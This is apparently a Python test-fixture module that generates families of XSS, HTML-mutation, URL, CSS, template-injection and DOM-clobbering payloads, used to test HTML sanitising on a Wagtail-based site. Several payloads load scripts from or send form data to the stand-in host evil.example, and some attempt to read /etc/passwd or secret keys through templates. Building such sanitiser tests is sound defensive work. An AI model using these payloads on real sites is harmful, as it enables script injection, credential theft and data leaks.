"""Hostile snippets, made in families. Each wants to set `window.__xss`, or to ask evil.example.

Used by tests that show them everywhere (tests/browser/test_hostile_text.py) and by tests that
read the cleaned HTML without a browser (tests/practices_pages/test_hostile_markup.py).
"""

from collections.abc import Iterator
from html import escape

HOST = "evil.example"
RUN = "window.__xss=1"


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(letter)) for letter in text)


def events() -> Iterator[str]:
    """Elements that fire an event by themselves, each in several spellings."""
    for start, event in (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("iframe src=about:blank", "onload"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("style", "onload"),
        ("select autofocus", "onfocus"),
        ("video><source src=x", "onerror"),
        ("svg><animate attributeName=x dur=1s", "onbegin"),
        ("p tabindex=1 autofocus contenteditable", "onfocus"),
        ("div style=animation-name:x", "onanimationstart"),
        ("x", "onpointerover"),
    ):
        yield f"<{start} {event}={RUN}>"
        yield f'<{start.upper()} {event.upper()}="{RUN}">'
        yield f"<{start.replace(' ', '/')}/{event}='{RUN}'>"
        yield f"<{start} {event}={_entities(RUN, '&#x{:x};')}>"
        yield f"<{start} {event}\n=\n{RUN} "


def scripts() -> Iterator[str]:
    for tag in (
        "script",
        "ScRiPt",
        "script/x",
        "script\n",
        "scr\x00ipt",
        "svg><script",
        "script\x0c",
    ):
        yield f"<{tag}>{RUN}</script>"
    yield f"<script src=//{HOST}/a.js></script>"
    yield f"<script type=module src=https://{HOST}/m.js></script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script>{RUN}"
    yield f"<svg><script href=data:text/javascript,{RUN} />"
    yield f"<svg><script>{_entities(RUN, '&#{};')}</script>"
    yield f"<template><script>{RUN}</script></template>"
    yield f"<script x>{RUN}</script y>"


def mutations() -> Iterator[str]:
    """What reads differently to a second parser."""
    image = f"<img src=1 onerror={RUN}>"
    closing = escape(f'"><img src=1 onerror={RUN}>')
    for foreign in ("svg", "math"):
        for raw in (
            "style",
            "title",
            "noscript",
            "textarea",
            "xmp",
            "noembed",
            "noframes",
            "iframe",
        ):
            yield f'<{foreign}><{raw}><a id="</{raw}>{image}">'
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{escape(image)}'>"
    yield f"<svg></p><style><a id='</style>{image}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{image}"
    yield f'<noscript><p title="</noscript>{image}">'
    yield f"<select><template><style><!--</style></template><a title='-->{image}'></select>"
    yield f"<table><td><svg><desc><td></svg>{image}"
    yield f"<table><caption><svg><title><table></table><style><a title='</style>{image}'>"
    yield f'<p><a title="{closing}">x</a>'
    yield f"<listing>{escape(image)}</listing>"
    yield f"<math><annotation-xml encoding=text/html>{image}</annotation-xml></math>"
    yield f"<svg><foreignObject>{image}</foreignObject></svg>"
    yield f"<b><a href=x><table><a href=y>{image}"
    yield f"<!--><!---->{image}-->"
    yield f"<!--!>{image}--!>"
    yield f"<![CDATA[{image}]]>"
    yield f"<?xml {image}?>"
    yield f"<option><style></option></select>{image}</style>"
    yield f"<plaintext>{image}"
    yield f"<ruby><rtc><svg><style></ruby>{image}"


def addresses() -> Iterator[str]:
    for address in (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f" javascript:{RUN}",
        f"\x01javascript:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"java&#10;script:{RUN}",
        f"java&NewLine;script&colon;{RUN}",
        f"{_entities('javascript', '&#{};')}:{RUN}",
        f"{_entities('javascript', '&#0000{}')}:{RUN}",
        f"javascript://{HOST}/%0a{RUN}",
        f"java\u200bscript:{RUN}",
        f"\ufeffjavascript:{RUN}",
        f"javascript\u003a{RUN}",
        f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg onload={RUN}>",
        f"blob:https://{HOST}/1",
        f"view-source:javascript:{RUN}",
        f"feed:javascript:{RUN}",
        f"https://gmina.example@{HOST}/",
        f"https://gmina.example\\@{HOST}/",
        f"//{HOST}/",
        f"/\\{HOST}/",
        f"/\t/{HOST}/",
        f"https:/\\{HOST}",
        "file:///etc/passwd",
    ):
        yield f'<a href="{address}">adres</a>'
    yield f"<iframe src=javascript:{RUN}>"
    yield f"<form action=javascript:{RUN}><button autofocus>x</button></form>"
    yield f"<button formaction=javascript:{RUN}>x</button>"
    yield f"<object data=javascript:{RUN}></object>"
    yield f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>"
    yield f"<math href=javascript:{RUN}>x</math>"
    yield f"<svg><use href=data:image/svg+xml,<svg/onload={RUN}>#x></svg>"


def out_of_place() -> Iterator[str]:
    """Out of the attribute, comment, script or element that a text may stand in."""
    image = f"<img src=x onerror={RUN}>"
    for end in (
        *('"', "'", "`", "\\", '\\"', "\\'", "-->", "]]>", "*/", "?>", "%>", "&quot;", "&#39;"),
        *("</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</option></select>"),
        *("</template>", "</svg>", "</td></table>", "</h1>", "</a>", "</button>", "</head>"),
    ):
        yield f"{end}>{image}"
    yield f'" autofocus onfocus={RUN} x="'
    yield f"' autofocus onfocus={RUN} x='"
    yield f"x onmouseover={RUN} style=position:fixed;inset:0 "
    yield f'"}};{RUN};//'
    yield f"';{RUN};//"
    yield f"</script><script>{RUN}//"
    yield f"\\u003cimg src=x onerror={RUN}\\u003e"
    yield f"\u2028{RUN}\u2029"


def styles() -> Iterator[str]:
    for rule in (
        f"background:url(//{HOST}/b.png)",
        f"background-image:url(javascript:{RUN})",
        f"width:expression({RUN})",
        "position:fixed;inset:0;z-index:9999",
        f"@import url(//{HOST}/i.css)",
        f"behavior:url(//{HOST}/x.htc)",
    ):
        yield f'<p style="{rule}">styl</p>'
        yield f"<style>*{{{rule}}}</style>"
    yield f"<link rel=stylesheet href=//{HOST}/l.css>"
    yield f"<style>@import '//{HOST}/s.css';</style>"


def requests() -> Iterator[str]:
    """Nothing runs, but the reader's browser would tell somebody, or go there."""
    yield f"<img src=//{HOST}/p.png>"
    yield f"<img srcset='//{HOST}/p2.png 1x'>"
    yield f"<picture><source srcset=//{HOST}/p3.png><img></picture>"
    yield f"<video poster=//{HOST}/v.png></video>"
    yield f"<base href=//{HOST}/>"
    yield f"<meta http-equiv=refresh content='0;url=//{HOST}/'>"
    yield f"<link rel=prefetch href=//{HOST}/f>"
    yield f"<iframe src=//{HOST}/></iframe>"
    yield f"<iframe srcdoc='{escape(f'<script>parent.{RUN}</script>')}'></iframe>"
    yield f"<object data=//{HOST}/o></object>"
    yield f"<embed src=//{HOST}/e>"
    yield f"<body background=//{HOST}/bg.png>"
    yield f"<table background=//{HOST}/t.png><tr><td>x</table>"
    yield f"<svg><image href=//{HOST}/s.png /></svg>"
    yield f"<input type=image src=//{HOST}/in.png>"
    yield f"<audio src=//{HOST}/a.mp3 autoplay>"
    yield f"<form action=//{HOST}/><input name=haslo><button>Dalej</button></form>"


def templates() -> Iterator[str]:
    yield "{{ 7|add:7 }}{% debug %}"
    yield "{% load static %}{% include '/etc/passwd' %}"
    yield "{{ settings.SECRET_KEY }}{{ request.user.password }}"
    yield "{{constructor.constructor('window.__xss=1')()}}"
    yield "${window.__xss=1}#{window.__xss=1}<%= window.__xss=1 %>"
    yield "%(name)s %s %n {0.__class__} {title}"
    yield "[[window.__xss=1]] @{window.__xss=1}"


def names() -> Iterator[str]:
    """Elements that take the place of what scripts look for, ours and the panel's."""
    for name in ("body", "getElementById", "cookie", "wagtail", "wagtailConfig", "comments-app"):
        yield f"<a id={name}><a id={name} name=x href=//{HOST}/>x</a>"
        yield f"<form name={name}><input name=attributes><input id=action></form>"
    yield f"<img name=currentScript src=x><script src=//{HOST}/n.js></script>"
    yield f'<div data-controller="w-init" data-w-init-event-value="x" onx="{RUN}">x</div>'
    yield f'<button data-controller="w-action" data-w-action-url-value="//{HOST}/">x</button>'
    teleport = '<template data-controller="w-teleport" data-w-teleport-target-value="body">'
    yield f"{teleport}<img src=x onerror={RUN}></template>"
    yield f'<input data-draftail-input value="{{}}" autofocus onfocus="{RUN}">'


def of_wagtail() -> Iterator[str]:
    """Against Wagtail's own forms of links and embeds, which are rewritten by pattern."""
    yield f'<embed embedtype="media" url="https://{HOST}/watch"/>'
    yield '<embed embedtype="image" id="1 OR 1" format="left" alt="x"/>'
    yield f'<embed embedtype="image" id="1" format="x" alt="&quot; onerror={RUN}"/>'
    yield f'<a linktype="page" id="1" onclick="{RUN}">x</a>'
    yield '<a linktype="page" id="abc">x</a>'
    yield '<a linktype="page" id="999999999999999999999999">x</a>'
    yield f'<a href="x>" linktype="page" title="><img src=x onerror={RUN}>">x</a>'
    yield f'<a linktype="user" id="1" href="javascript:{RUN}">x</a>'
    yield f"<a linktype='document' id='1&quot;><img src=x onerror={RUN}>'>x</a>"


def deceptions() -> Iterator[str]:
    yield f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e"
    yield f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield f"\u202ejs.ten\u202c <img src=x onerror={RUN}>"
    yield f"<\u200bimg src=x onerror={RUN}>"
    yield f"\xbcscript\xbe{RUN}\xbc/script\xbe"
    yield f"<img src=x one\u0131rror={RUN} onerr\u00f6r={RUN}>"
    yield f"%3Cimg%20src%3Dx%20onerror%3D{RUN}%3E"
    yield f"&lt;img src=x onerror={RUN}&gt;"
    yield f"&amp;lt;script&amp;gt;{RUN}"


FAMILIES = (
    events,
    scripts,
    mutations,
    addresses,
    out_of_place,
    styles,
    requests,
    templates,
    names,
    of_wagtail,
    deceptions,
)
CORPUS: tuple[str, ...] = tuple(
    dict.fromkeys(snippet for family in FAMILIES for snippet in family())
)
